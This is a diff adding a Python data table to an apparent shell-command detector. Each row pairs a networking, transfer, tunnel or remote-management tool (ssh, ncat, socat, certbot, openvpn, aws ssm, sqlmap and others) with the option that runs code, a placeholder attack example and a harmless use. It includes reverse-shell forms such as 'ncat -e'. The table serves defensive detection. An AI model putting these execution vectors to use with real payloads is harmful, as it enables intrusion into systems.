@@ -1,0 +1,125 @@
+"""Ways to have code run by programs that connect, transfer, capture and manage other machines.
+
+Rows are facts about programs, one a line: name, where the code stands, how to read it, what to strip, other options
+that take a value, an example (its code has `payload` in it) and a harmless use. `launchers.py` tells how to read them.
+"""
+# ruff: noqa: E501
+
+from __future__ import annotations
+
+from typing import Final
+
+from guardhouse.detect.shell.programs.interface import Launcher
+
+# One entry a line.
+# fmt: off
+LAUNCHERS: Final[tuple[Launcher, ...]] = (
+    # ssh and its family
+    Launcher("ssh scp sftp ssh-copy-id autossh sshfs slogin ssh-keyscan check_by_ssh mosh-client git-ssh", "-o", "shell", "proxycommand~ localcommand~ knownhostscommand~", "-c -F -i -J -l -P", "ssh -o ProxyCommand=';payload 0<&2' host.example", "ssh -o StrictHostKeyChecking=no -p 22 host.example"),
+    Launcher("ssh scp sftp ssh-copy-id autossh", "-o", "program", "pkcs11provider~ securitykeyprovider~ xauthlocation~", "", "ssh -o PKCS11Provider=./payload.so host.example", "ssh -o IdentitiesOnly=yes host.example"),
+    Launcher("ssh slogin autossh", "-I", "program", "", "-b -D -E -e -L -m -M -O -p -Q -R -S -W -w -B", "ssh -I ./payload.so host.example", "ssh -i key host.example"),
+    Launcher("scp sftp", "-S", "program", "", "", "scp -S ./payload a host.example:b", "scp -P 22 a host.example:b"),
+    Launcher("sftp scp", "-D", "shell", "", "", "sftp -D 'payload -c'", "sftp host.example"),
+    Launcher("sftp", "-b", "program", "@scratch", "-B -R -s -X", "sftp -b /tmp/payload host.example", "sftp -P 22 host.example"),
+    Launcher("sftp ftp tnftp lftp telnet smbclient ncftp", "!-c|--help|--version stdin", "other", "", "-P -u -p -o -e -c -s -f", "ftp host.example", "ftp --help"),
+    Launcher("sshfs", "-o", "shell", "**ssh_command= **proxycommand= **sftp_server=", "", "sshfs -o allow_other,ssh_command=payload host.example: a", "sshfs -o allow_other host.example: a"),
+    Launcher("ssh-keygen", "-D|-w", "program", "", "-b -C -f -t -N -P -m -O -I -n -V -s -z -F -R -r -W -Y -E -a", "ssh-keygen -D ./payload.so", "ssh-keygen -t ed25519 -C ada -f key"),
+    Launcher("ssh-add", "-s|-S|-e", "program", "", "-t -H -h -E", "ssh-add -s ./payload.so", "ssh-add key"),
+    Launcher("ssh-agent sshd", "-P?", "program", "*/<", "", "ssh-agent -P./payload", "ssh-agent -s"),
+    Launcher("sshd", "-o", "shell", "forcecommand~ authorizedkeyscommand~ authorizedprincipalscommand~ subsystem~sftp~ chrootdirectory~x~", "-f -p -E -h -C -c -g -u", "sshd -o ForceCommand='payload -c' -p 2222", "sshd -p 2222"),
+    Launcher("sshuttle", "-e|--ssh-cmd", "shell", "", "-r --remote -x --exclude -l --listen --method --python", "sshuttle -r host.example --ssh-cmd 'payload -c' 10.0.0.0/8", "sshuttle -r host.example 10.0.0.0/8"),
+    Launcher("mosh", "--ssh|--client", "shell", "", "-p --port --family --predict --server", "mosh --ssh='payload -c' host.example", "mosh -p 60001 host.example"),
+    Launcher("plink pscp psftp putty", "-proxycmd", "shell", "", "-P -l -i -pw -load", "plink -proxycmd 'payload -c' host.example", "plink -P 22 host.example"),
+    Launcher("pscp.pssh pssh parallel-ssh clush", "-O|--options|-o", "shell", "**proxycommand= **proxycommand~", "-h --hosts -H --host -l --user -p --par -t -w -g -x", "pssh -h a -O ProxyCommand=payload ls", "pssh -h a -l ada ls"),
+    # file transfer
+    Launcher("lftp", "-c|-e", "shell", "**! **shell~", "-u -p -f", "lftp -c '!payload -c'", "lftp -e 'mirror a; quit' ftp.example.org"),
+    Launcher("ftp tnftp", "-o", "shell", "|", "", "ftp -o '|payload' http://example.org/a", "ftp -o a http://example.org/a"),
+    Launcher("smbclient", "-c|--command", "shell", "**!", "-U -I -p -W -m -T -D -A -s -O -n -t -b -d", "smbclient //host.example/a -c '!payload -c'", "smbclient //host.example/a -U ada -c ls"),
+    Launcher("wget wget2", "--use-askpass", "program", "", "-O -o -a -i -P -U -e -t -T -A -R -D -I -X -l -B -Q --header --post-data --post-file --user --password --referer", "wget --use-askpass=./payload https://example.org", "wget -qO- --user-agent=x https://example.org"),
+    Launcher("wget", "-e|--execute", "program", "use_askpass~", "", "wget -e use_askpass=./payload https://example.org", "wget -e robots=off https://example.org"),
+    Launcher("curl", "--engine", "program", "", "-o -X -H -d -F -u -A -e -b -c -T -K -w -m -x -E -C -D -r -t -z -Y -y -P -Q --data --header --request --url --output --user --max-time --connect-timeout --retry --cacert --cert --key --data-binary --data-raw --data-urlencode --form --resolve --proxy --write-out --user-agent --referer --cookie --cookie-jar --upload-file --config", "curl --engine ./payload.so https://example.org", "curl -sSL -o a https://example.org"),
+    Launcher("aria2c", "--on-download-complete|--on-download-start|--on-download-error|--on-download-stop|--on-download-pause|--on-bt-download-complete", "program", "", "-d -o -i -j -s -x -k -l", "aria2c --on-download-complete=./payload https://example.org/a", "aria2c -x 4 https://example.org/a"),
+    Launcher("yt-dlp youtube-dl yt-dlp_linux", "--exec", "shell", "pre_process: after_filter: video: before_dl: post_process: after_move: after_video: playlist: .", "-o --output -f --format -r -R -a -u -p -P --paths --cookies --audio-format --audio-quality --proxy -S -N --sub-lang --sub-langs --playlist-items -I --download-archive", "yt-dlp https://example.org/v --exec 'payload #'", "yt-dlp -x --audio-format mp3 https://example.org/v"),
+    Launcher("yt-dlp youtube-dl yt-dlp_linux", "--exec-before-download|--netrc-cmd", "shell", "", "", "yt-dlp --netrc-cmd 'payload -c' https://example.org/v", "yt-dlp -f best https://example.org/v"),
+    Launcher("yt-dlp youtube-dl yt-dlp_linux", "--downloader|--external-downloader|--ffmpeg-location|--plugin-dirs", "program", "@scratch", "", "yt-dlp --downloader /tmp/payload https://example.org/v", "yt-dlp -S res:720 https://example.org/v"),
+    Launcher("gallery-dl", "--exec|--exec-after", "shell", "", "-d -o -u -p", "gallery-dl --exec 'payload {}' https://example.org/g", "gallery-dl -d a https://example.org/g"),
+    Launcher("rclone", "--password-command|--sftp-ssh|--metadata-mapper|--webdav-bearer-token-command|--http-proxy-command", "shell", "", "--metadata? --http-proxy --config --transfers --checkers --exclude --include --filter --bwlimit --log-file", "rclone --password-command 'payload -c' ls a:", "rclone sync a b:"),
+    Launcher("restic", "--password-command", "shell", "", "-r --repo -p --password-file --tag --exclude -e --host -H --cacert", "restic --password-command='payload -c' backup", "restic -r a backup b"),
+    Launcher("restic", "-o|--option", "shell", "sftp.command= rclone.program=", "", "restic -o sftp.command='payload -c' backup a", "restic -o s3.region=x backup a"),
+    Launcher("borg borgmatic", "--rsh", "shell", "", "-C -e --exclude -P --prefix --lock-wait --remote-path", "borg extract --rsh 'payload -c' a::b", "borg create a::b c"),
+    Launcher("duplicity", "--ssh-options|--rsync-options", "shell", "**proxycommand= **proxycommand~", "", "duplicity --ssh-options='-oProxyCommand=payload' a b", "duplicity --full-if-older-than 1M a b"),
+    Launcher("bup rdiff-backup unison", "--remote-schema|-sshcmd|-diff|-merge|-addprefsto", "shell", "", "", "rdiff-backup --remote-schema 'payload %s' a b::c", "rdiff-backup a b"),
+    Launcher("rtorrent", "-O|-o", "shell", "**execute= **execute2= **execute.nothrow= **execute.capture=", "-b -d -s -p -i", "rtorrent -o execute=payload", "rtorrent -d a"),
+    Launcher("transmission-remote transmission-daemon", "--torrent-done-script", "program", "", "", "transmission-remote --torrent-done-script ./payload", "transmission-remote -l"),
+    # sockets and packets
+    Launcher("nc ncat netcat nc.traditional nc.openbsd", "-e|--exec", "shell", "", "-p -s -w -i -q -X -x --source-port --idle-timeout --wait --output --proxy --ssl-cert --ssl-key", "ncat -e 'payload -c' host.example 4444", "nc -zv -w 3 host.example 80"),
+    Launcher("nc ncat netcat nc.traditional", "-c|--sh-exec", "shell", "", "", "ncat --sh-exec 'payload -c' host.example 4444", "nc -l -p 8080"),
+    Launcher("ncat", "--lua-exec", "program", "", "", "ncat --lua-exec payload.lua -l 80", "ncat -l 80"),
+    Launcher("socat socat1 filan", "*", "shell", "exec:>, system:>, shell:>,", "-b -t -T -lf -L -W", "socat - exec:'payload -c',pty,ctty", "socat TCP-LISTEN:80,fork TCP:host.example:80"),
+    Launcher("socat", "*", "shell", "**!!exec:>, **!!system:>,", "", "socat STDIN!!EXEC:payload -", "socat - TCP:host.example:80"),
+    Launcher("websocat", "*", "shell", "cmd: sh-c: exec:", "--exec-args!", "websocat 'ws-l:127.0.0.1:80' 'sh-c:payload -c'", "websocat ws://example.org"),
+    Launcher("openssl", "-engine|-provider|-engine_impl", "program", "", "-in -out -inkey -key -passin -passout -CA -CAkey -days -subj -config -connect -servername -cert -name -newkey -port -accept", "openssl req -engine ./payload.so", "openssl req -new -key a -out b"),
+    Launcher("tcpdump", "-z", "program", "", "-i -w -r -c -C -G -W -s -E -F -B -y -Z -T -M -V -j -m", "tcpdump -ln -i lo -w a -W 1 -G 1 -z ./payload", "tcpdump -ni eth0 -w a port 80"),
+    Launcher("tshark wireshark rawshark", "-X", "program", "lua_script:", "-i -f -Y -R -r -w -c -a -b -e -E -T -t -d -o -N", "tshark -Xlua_script:payload.lua -r a.pcap", "tshark -r a.pcap -Y http"),
+    Launcher("nmap", "--script", "program", "*/<", "-p -iL -oN -oX -oG -oA -e -S -g -D --exclude --top-ports --script-args -T? -m --datadir", "nmap --script=/payload.nse host.example", "nmap --script vuln -p 80 host.example"),
+    Launcher("nmap", "--datadir|--servicedb", "program", "", "", "nmap --datadir payload host.example", "nmap -sV host.example"),
+    Launcher("bettercap", "-eval|--eval", "shell", "**!", "-iface -caplet", "bettercap -eval '!payload'", "bettercap -iface eth0"),
+    Launcher("bettercap", "-caplet", "program", "", "", "bettercap -caplet payload.cap", "bettercap -version"),
+    Launcher("msfconsole", "-x|-r", "other", "", " -m -o", "msfconsole -x 'payload'", "msfconsole -q"),
+    Launcher("ettercap", "-P|-F", "program", "", "-i -M  -w -r", "ettercap -T -F payload.ef", "ettercap -T -i eth0"),
+    Launcher("hping3 scanmem jtag bconsole crash psftp", "!1 stdin", "other", "", "", "hping3", "hping3 host.example"),
+    # tunnels, addresses, certificates
+    Launcher("openvpn", "--up|--down|--route-up|--route-pre-down|--ipchange|--tls-verify|--client-connect|--client-disconnect|--learn-address|--auth-user-pass-verify|--tls-crypt-v2-verify", "shell", "", "--auth --auth-user-pass? --client? --route --tls-crypt --tls-crypt-v2 --dev --config --script-security --remote --proto --port --cd --ca --cert --key", "openvpn --dev null --script-security 2 --up 'payload -s'", "openvpn --config a.ovpn"),
+    Launcher("openvpn", "--plugin|--iproute", "program", "", "", "openvpn --plugin ./payload.so --config a", "openvpn --config a.ovpn"),
+    Launcher("pppd", "connect|disconnect|pty|init|welcome 1", "shell", "", "", "pppd pty 'payload -c'", "pppd ttyS0 9600"),
+    Launcher("wg-quick", "up|down 1", "program", "*/<", "", "wg-quick up ./payload.conf", "wg-quick up wg0"),
+    Launcher("pppd", "plugin 1", "program", "", "", "pppd plugin ./payload.so", "pppd noauth"),
+    Launcher("dnsmasq", "--conf-script", "shell", "", "-p -i -C -A -S", "dnsmasq --conf-script='payload 1>&2'", "dnsmasq -C a.conf"),
+    Launcher("dnsmasq", "--dhcp-script|--dhcp-luascript|-6", "program", "", "", "dnsmasq --dhcp-script=./payload", "dnsmasq -p 5353"),
+    Launcher("dhclient", "-sf", "program", "", "-p -e -lf -pf -cf -s -g", "dhclient -sf ./payload", "dhclient -v eth0"),
+    Launcher("udhcpc udhcpc6", "-s|--script", "program", "", "-i -p -r -t -T -A -x -H -V -F", "udhcpc -i eth0 -s ./payload", "udhcpc -i eth0"),
+    Launcher("dhcpcd", "-c|--script", "program", "", "-f -e -h -I -l -t -m -o -S", "dhcpcd -c ./payload", "dhcpcd eth0"),
+    Launcher("wpa_cli hostapd_cli", "-a", "program", "", "-p -i -P -g -G -s", "wpa_cli -i wlan0 -a ./payload", "wpa_cli -i wlan0 status"),
+    Launcher("iptables ip6tables ebtables arptables iptables-restore", "--modprobe|-M", "program", "", "-A -D -I -p -s -d -j -t -i -o -m -P -N --dport --sport", "iptables -L --modprobe=./payload", "iptables -L -n"),
+    Launcher("certbot letsencrypt letsencrypt-auto", "--pre-hook|--post-hook|--deploy-hook|--renew-hook|--manual-auth-hook|--manual-cleanup-hook", "shell", "", "--manual? --renew? -d --domain -m --email -w --webroot-path --cert-name --config-dir --work-dir --logs-dir --server -a -i", "certbot certonly -n -d x.example --pre-hook 'payload 1>&0'", "certbot renew --no-random-sleep-on-renew"),
+    Launcher("acme.sh acme.sh.sh", "--pre-hook|--post-hook|--renew-hook|--reloadcmd", "shell", "", "-d --domain -w --webroot --dns -k --server --renew? --deploy?", "acme.sh --issue -d x.example -w a --pre-hook payload", "acme.sh --issue -d x.example -w a"),
+    Launcher("lego", "run|renew --run-hook|--renew-hook|--deploy-hook", "shell", "", "-d --domains -m --email --dns --path", "lego --email a@example.org -d x.example run --run-hook payload", "lego -d x.example run"),
+    Launcher("dehydrated", "-k|--hook", "program", "", "-d --domain -f --config -t -p -o", "dehydrated -c -k ./payload", "dehydrated -c"),
+    Launcher("check_ssl_cert", "--grep-bin|--curl-bin|--nmap-bin|--openssl|--file-bin|--date-bin|--python-bin|--dig-bin|--bc-bin", "program", "", "-H -p -w -c", "check_ssl_cert --grep-bin ./payload -H x.example", "check_ssl_cert -H x.example"),
+    # web servers
+    Launcher("nginx", "-g", "program", "**load_module~", "-p -s -e", "nginx -g 'load_module ./payload.so;'", "nginx -g 'daemon off;'"),
+    Launcher("nginx", "-c", "program", "@scratch", "", "nginx -t -c /tmp/payload.conf", "nginx -t"),
+    Launcher("httpd apache2 apachectl apache2ctl", "-c|-C", "shell", '**"|', "-d -f -D -k -e -E", "httpd -C 'CustomLog \"|payload -c\" x' -X", "httpd -f a.conf -k start"),
+    Launcher("httpd apache2 apachectl apache2ctl", "-c|-C", "program", "**loadfile~ **loadmodule~x~", "", "httpd -C 'LoadFile ./payload.so' -X", "httpd -c 'ServerName x' -t"),
+    Launcher("uwsgi", "--exec-asap|--exec-pre-jail|--exec-post-jail|--exec-in-jail|--exec-as-root|--exec-as-user|--exec-pre-app|--exec-post-app|--attach-daemon|--attach-daemon2|--smart-attach-daemon", "shell", "", "", "uwsgi --http :80 --exec-asap payload", "uwsgi --ini a.ini"),
+    Launcher("uwsgi", "--eval|--pyrun|--plugin|--plugins", "program", "*/<", "", "uwsgi --plugin ./payload", "uwsgi --http :80"),
+    # other machines
+    Launcher("ansible", "-a|--args", "shell", "", "-m --module-name -i --inventory -u -e --extra-vars -f -l --limit -c -t -T -B -P -M", "ansible all -m shell -a 'payload -c'", "ansible all -m ping"),
+    Launcher("ansible ansible-playbook", "--ssh-common-args|--ssh-extra-args|--scp-extra-args|--sftp-extra-args", "shell", "**proxycommand= **proxycommand~", "", "ansible-playbook a.yml --ssh-common-args='-o ProxyCommand=payload'", "ansible-playbook -i hosts a.yml"),
+    Launcher("ansible-playbook", "--vault-password-file|--vault-id", "program", "@scratch", "-i -u -e -l -t -f -c", "ansible-playbook --vault-password-file /tmp/payload a.yml", "ansible-playbook --ask-vault-pass a.yml"),
+    Launcher("ansible-playbook", "*", "program", "@scratch", "", "ansible-playbook -i hosts /tmp/payload.yml", "ansible-playbook --version"),
+    Launcher("salt", "* cmd.run|cmd.shell|cmd.run_all|cmd.run_stdout|cmd.script|cmd.exec_code 1", "shell", "", "-t -b -c", "salt '*' cmd.run 'payload -c'", "salt '*' test.ping"),
+    Launcher("salt-call", "cmd.run|cmd.shell|cmd.run_all|cmd.run_stdout|cmd.script 1", "shell", "", "-c -m -l", "salt-call --local cmd.run 'payload -c'", "salt-call --local test.ping"),
+    Launcher("knife", "ssh * 1", "shell", "", "-x -i -a -C", "knife ssh name:a 'payload -c'", "knife node list"),
+    Launcher("cdist", "shell -s|--shell", "program", "", "", "cdist shell -s ./payload", "cdist config host.example"),
+    Launcher("gcloud", "compute|alpha|beta|app|workstations --command", "shell", "", "--zone --project --region", "gcloud compute ssh a --zone x --command 'payload -c'", "gcloud compute ssh a --zone x"),
+    Launcher("aws", "ssm send-command --parameters", "shell", '**commands=" **commands=[" **commands=\' **commands=[\' **"commands":[" commands=', "--profile --region --instance-ids --document-name --targets --comment", "aws ssm send-command --document-name AWS-RunShellScript --parameters 'commands=[\"payload -c\"]'", "aws ssm get-parameter --name a"),
+    Launcher("aws", "ecs execute-command --command", "shell", "", "--cluster --task --container", "aws ecs execute-command --cluster a --task b --command 'payload -c'", "aws ecs list-tasks --cluster a"),
+    Launcher("az", "vm|vmss run-command invoke|create --scripts|--script", "shell", "", "-g --resource-group -n --name --command-id", "az vm run-command invoke -g a -n b --command-id RunShellScript --scripts 'payload -c'", "az vm list -g a"),
+    Launcher("az", "containerapp|container exec --command|--exec-command", "shell", "", "", "az container exec -n b --exec-command payload", "az container list"),
+    Launcher("vagrant", "ssh -c|--command", "shell", "", "", "vagrant ssh a -c 'payload -c'", "vagrant ssh a"),
+    Launcher("flyctl fly", "ssh console -C|--command", "shell", "", "-a --app -c --config -r", "fly ssh console -a x -C 'payload -c'", "fly status -a x"),
+    Launcher("doctl", "compute ssh --ssh-command", "shell", "", "", "doctl compute ssh a --ssh-command 'payload -c'", "doctl compute ssh a"),
+    Launcher("hcloud", "server ssh * --", "shell", "", "", "hcloud server ssh a payload", "hcloud server list"),
+    Launcher("virsh", "qemu-agent-command * 1", "other", "", "-c", 'virsh qemu-agent-command a \'{"execute":"guest-exec","x":"payload"}\'', "virsh list"),
+    Launcher("fail2ban-client", "set * action * actionban|actionunban|actionstart|actionstop|actioncheck 1", "shell", "", "-c -s -p", "fail2ban-client set x action x actionban 'payload -c'", "fail2ban-client set x banip 192.0.2.1"),
+    Launcher("wsl", "-e|--exec|--", "argv", "", "-d --distribution -u --user --cd", "wsl -d x -e payload -c", "wsl -l"),
+    Launcher("socket", "-p", "shell", "", "", "socket -qvp 'payload -i' host.example 80", "socket -v host.example 80"),
+    Launcher("sqlmap", "--eval|--alert|--preprocess|--postprocess", "python", "", "-u --url -r -p -D -T -C", "sqlmap -u http://host.example/?a=1 --eval='import os; os.system(\"payload\")'", "sqlmap -u http://host.example/?a=1"),
+    Launcher("ffuf", "-input-cmd", "shell", "", "-u -w -H -X -d -mc -fc -o", "ffuf -u http://host.example/FUZZ -input-cmd payload", "ffuf -u http://host.example/FUZZ -w a.txt"),
+    Launcher("varnishd", "-p", "shell", "cc_command=", "-a -b -f -n -s -T -S", "varnishd -p cc_command=payload -b a", "varnishd -a :80 -b a"),
+    Launcher("knife", "exec -E|--exec", "ruby", "", "", "knife exec -E 'system(\"payload\")'", "knife node list"),
+    Launcher("rcat rustcat", "connect|c -s|--shell", "program", "", "", "rcat connect -s ./payload host.example 80", "rcat listen 80"),
+    Launcher("rcat rustcat", "listen|l -e|--exec", "shell", "", "", "rcat listen -e payload 80", "rcat listen -i 80"),
+)
+# fmt: on
